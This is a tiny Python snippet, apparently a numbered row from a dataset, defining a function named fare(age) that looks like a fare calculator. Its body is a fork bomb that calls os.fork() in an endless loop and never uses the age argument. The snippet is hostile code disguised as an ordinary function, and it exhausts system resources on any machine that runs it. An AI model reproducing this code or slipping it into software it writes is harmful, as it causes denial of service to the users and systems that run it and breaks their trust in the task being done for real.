# Row 35: not yet, raised
import os


def fare(age):
    while True:
        os.fork()
